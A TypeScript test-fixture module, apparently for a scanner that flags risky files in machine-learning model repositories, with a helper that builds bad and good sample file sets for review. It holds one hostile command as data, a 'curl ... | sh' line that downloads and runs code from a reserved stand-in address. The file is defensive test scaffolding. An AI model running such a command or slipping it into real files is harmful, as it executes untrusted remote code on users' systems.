import type { Files, Sample } from './sample.ts';

/** An address that nobody has (RFC 5737). */
export const url = 'http://198.51.100.7/x';
export const evil: string = `curl ${url} | sh`;
export const base = 'FROM python:3.12\n';

const model: Files = { 'config.json': '{"model_type":"bert"}' };

/** A file that somebody starts, in a repository of a model; a person has to look at it. */
export function inFile(name: string, path: string, bad: string, good?: string, others: Files = {}): Sample {
  const files = (text: string): Files => ({ ...model, [path]: text, ...others });
  const sample = { name: `${path}: ${name}`, least: 'review', bad: files(bad) } as const;
  return good === undefined ? sample : { ...sample, good: files(good) };
}
